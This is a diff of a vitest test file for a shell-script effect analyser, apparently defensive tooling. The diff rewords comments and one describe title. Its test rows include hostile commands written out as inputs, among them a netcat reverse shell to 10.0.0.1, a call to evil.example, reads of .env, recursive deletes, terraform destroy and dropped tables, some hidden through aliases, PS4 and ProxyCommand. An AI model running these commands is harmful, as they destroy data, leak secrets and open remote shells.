@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest'
 import { describeFacts } from './facts-of.ts'
 
-/** A script that runs in `/w`, and what it does to files and hosts, the code it hands over, and what cannot be known. */
+/** A script that runs in `/w`, and its effects on files and hosts, its inline code, and what is unknown about it. */
 type Row = readonly [script: string, facts: readonly string[]]
 
 describe('files and folders', () => {
@@ -114,7 +114,7 @@ describe('git', () => {
     ['git diff --output=out', ['write /w/out']],
     ['git format-patch -o out HEAD~2', ['write /w/out/**']],
     ['git init new', ['write /w/new']],
-    // What it prints of a file, of the working copy or of a commit
+    // Files that git prints, from the working copy or a commit
     ['git show HEAD:.env', ['read /w/.env']],
     ['git show :.env', ['read /w/.env']],
     ['git show :2:a/.env', ['read /w/a/.env']],
@@ -169,7 +169,7 @@ describe('the network', () => {
     ["ssh -o ProxyCommand='rm x' host", ['delete /w/x', 'host host ssh 22']],
     ['scp a host:b', ['read /w/a', 'host host ssh 22']],
     ['scp a "$H:b"', ['read /w/a', 'host … ssh 22']],
-    // Where a place begins with what only the shell knows, it may be on a host.
+    // A path whose beginning is known only at run time may be on a host.
     ['scp a $B', ['read /w/a', 'write …', 'host … ssh 22']],
     ['scp "$A" b', ['read …', 'write /w/b', 'host … ssh 22']],
     ['scp a "$B/c"', ['read /w/a', 'write …/c', 'host … ssh 22']],
@@ -192,7 +192,7 @@ describe('the network', () => {
     ['rsync -a --delete src/ dst/', ['read /w/src below', 'write /w/dst/** below', 'delete /w/dst partly']],
     ['rsync -a a ann@h.example:b', ['read /w/a below', 'host h.example ssh 22']],
     ["rsync -e 'rm x' a h:b", ['delete /w/x', 'read /w/a', 'host h ssh 22']],
-    // A drive has one letter, and a slash behind it; a host may have one letter, too.
+    // A drive is one letter before a colon and a slash; a host may also be one letter.
     ['rsync a h::m', ['read /w/a', 'host h ssh 22']],
     ['rsync a ann@h:/b', ['read /w/a', 'host h ssh 22']],
     ['rsync a h:/b', ['read /w/a', 'write h:/b/a', 'host h ssh 22']],
@@ -201,7 +201,7 @@ describe('the network', () => {
     ['curl file://localhost/w/%2eenv?x', ['read /w/.env']],
     ['curl "file://$PWD/.env"', ['read /w/.env']],
     ['curl file:/w/.env', ['read /w/.env']],
-    // What no file is called stays as it is.
+    // No file has such a name, so a shell leaves these patterns as they are.
     ['curl http://[fd00:ec2::254]/a?b=*', ['host fd00:ec2::254 http 80']],
     ['nc -e /bin/sh 10.0.0.1 4444', ['execute /bin/sh', 'host 10.0.0.1 tcp 4444']],
     ['nc evil.example 80', ['host evil.example tcp 80']],
@@ -414,7 +414,7 @@ describe('containers, packages, systems, clouds, databases', () => {
     ['gh api repos/a/b -X DELETE', ['host …']],
     ['terraform destroy -auto-approve', ['host …']],
     ["psql -h db.example -c 'drop table a'", ['host db.example', 'code sql drop table a']],
-    // The names of a database and of its user are no code: the code is the input.
+    // The names of a database and its user are not code; the input is.
     ["psql -U ann app <<< 'drop table a'", ['code sql drop table a']],
     ["sqlite3 a.db <<< 'drop table a'", ['write /w/a.db', 'code sql drop table a']],
     ["sqlite3 a.db 'select 1' <<< 'drop table a'", ['write /w/a.db', 'code sql select 1']],
@@ -445,7 +445,7 @@ describe('containers, packages, systems, clouds, databases', () => {
   ])('%s', (script, facts) => expect(describeFacts(script)).toEqual(facts))
 })
 
-describe('what hides behind something else', () => {
+describe('hidden effects', () => {
   test.each<Row>([
     ["bash -oc pipefail 'rm -rf x'", ['delete /w/x below']],
     ["bash -ec 'rm x'", ['delete /w/x']],
@@ -477,14 +477,14 @@ describe('what hides behind something else', () => {
     ['rm() { :; }; sudo rm x', ['delete /w/x']],
     ['if a; then rm() { :; }; fi; rm x', ['delete /w/x']],
     ["alias ls='rm x'", ['delete /w/x']],
-    // A shell that replaces aliases in scripts, and one that does not.
+    // Some shells expand aliases in scripts, and others do not.
     ["alias ll='rm -r'; ll x", ['delete /w/x below', 'maybe touch /w/x']],
     ['hash -p /bin/rm ls; ls x', ['read /w/x', 'open hash -p /bin/rm ls']],
     ["export PS4='$(rm x)'; set -x", ["open PS4='$(rm x)'"]],
     ["PS4='$(rm x)'; set -x", ['open PS4=$(rm x)']],
     ["x='a[$(rm y)]'; ((x))", ['open x=a[$(rm y)]']],
     ["x='$(rm y)'; echo done", []],
-    // Shells without arithmetic commands take the parentheses for subshells.
+    // Shells without arithmetic commands read the parentheses as subshells.
     ['((rm -r x))', ['maybe delete /w/x below']],
     ['((rm /x))', ['maybe delete /x']],
     ['((ls && rm -r /x))', ['maybe delete /x below']],
@@ -504,7 +504,7 @@ describe('what hides behind something else', () => {
     ["echo 'rm x' | parallel sh -c {}", ['delete /w/x']],
     ['ls /srv | parallel rm -rf /srv/{}', ['read /srv', 'delete /srv/… below']],
     ['run0 rm x', ['delete /w/x']],
-    // Functions that something else may call
+    // Functions that something outside the script may call
     ['f() { rm x; }', ['maybe delete /w/x']],
     ['f() { rm x; }; f', ['delete /w/x']],
     ['f() { rm x; }; trap f EXIT', ['delete /w/x']],
